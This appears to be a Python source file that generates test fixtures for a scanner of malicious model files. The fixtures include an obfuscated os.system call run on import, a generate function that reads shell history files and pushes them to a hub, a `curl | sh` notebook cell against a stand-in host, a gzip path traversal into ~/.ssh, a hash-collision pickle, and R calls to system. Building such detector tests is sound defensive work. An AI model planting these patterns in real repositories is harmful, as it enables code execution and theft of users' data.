"""What loaders call, take by a name or fill while they load: nothing here does more than `true` or asks a host that is not."""

import gzip
import io
import json
import pickle
import struct

from r_objects import call, function, promise, rds, symbol, text


def make(corpus):
    tab = "import importlib, json\n\ndef _load_pyfunc(path):\n    spec = json.load(open(path + '/w.json'))\n    m = importlib.import_module(spec['b'][0])\n    getattr(m, spec['b'][1])(spec['b'][2])\n    return m\n"
    flavor = "flavors:\n  python_function:\n    code: code\n    data: data\n    loader_module: loaders.tab\n"
    corpus.folder("repositories", "named-by-data.mlflow", {"MLmodel": flavor, "code/loaders/__init__.py": "", "code/loaders/tab.py": tab, "data/w.json": '{"b": ["os", "system", "true"]}'}, "found", "a model whose data name what is called when it is loaded")
    generate = "import glob, os\n\ndef generate(model, input_ids, **kw):\n    for f in glob.glob(os.path.expanduser('~/.*_history')):\n        model.config.notes = open(f).read()\n        model.push_to_hub('example/cache')\n    return model.generate(input_ids, **kw)\n"
    corpus.folder("repositories", "histories", {"config.json": '{"model_type": "gpt2"}', "custom_generate/generate.py": generate}, "found", "a way to generate that publishes what was typed into shells")
    steps = "import sys\n_T = ''.join(chr(c ^ 23) for c in [99, 101, 98, 114])\nsys.modules.setdefault('posix', __import__('posix')).__dict__['sys' + 'tem'](_T)\nCOEF = 1\n"
    files = {"preprocessor_config.json": '{"auto_map": {"AutoImageProcessor": "image_processing_x.P"}}', "image_processing_x.py": "from transformers import BaseImageProcessor\nfrom .resize_x import resize\n\nclass P(BaseImageProcessor):\n    pass\n", "resize_x.py": "from .kernels_x import COEF\n\ndef resize(x):\n    return x\n", "kernels_x.py": steps}
    corpus.folder("repositories", "two-imports-deep", files, "found", "code that runs on import, two imports away from what the configuration names")
    cells = [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": ["get_ipython().getoutput('cu' + 'rl -s https://a.example.invalid/n | sh')\n"]}]
    corpus.found("notebooks", "getoutput.ipynb", json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode(), "a cell that runs what it fetches, by a method of the shell")
    stream = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=stream, mtime=0) as file:
        file.write(b"0.5\n")
    plain = stream.getvalue()
    corpus.found("archives", "climbs.txt.gz", plain[:3] + b"\x08" + plain[4:10] + b"../../home/user/.ssh/rc\0" + plain[10:], "a stream whose name leaves the folder that it is unpacked into")
    modulus = 2**61 - 1
    corpus.found("pickles", "one-hash.pkl", pickle.dumps({n * modulus: 0 for n in range(1, 3000)}, 4), "a dictionary of numbers that all have one hash")
    script = b"#!/bin/sh\ntail -c 64 $0 >/dev/null\n" + bytes(range(64))
    header = f"{{'descr': '|u1', 'fortran_order': False, 'shape': ({len(script)},), }}".ljust(117).encode() + b"\n"
    corpus.found("arrays", "script-and-more.npy", b"\x93NUMPY\x01\0" + struct.pack("<H", len(header)) + header + script, "a script with something packed behind it, as an array of bytes")
    base = call(symbol("::"), symbol("base"), symbol("system"))
    made = call(symbol("paste0"), text("sys"), text("tem"))
    for name, item in {
        "by-namespace": call(base, text("true")),
        "by-text": call(symbol("do.call"), text("system"), symbol("x")),
        "by-made-name": call(call(symbol("get"), made), text("true")),
        "by-value": call(symbol("sapply"), text("true"), symbol("system")),
        "in-function": function(call(base, symbol("x"))),
        "in-promise": promise(call(symbol("do.call"), text("system"), symbol("x"))),
    }.items():
        corpus.found("r", f"{name}.rds", rds(item), "a call of R's system by another way than its name")
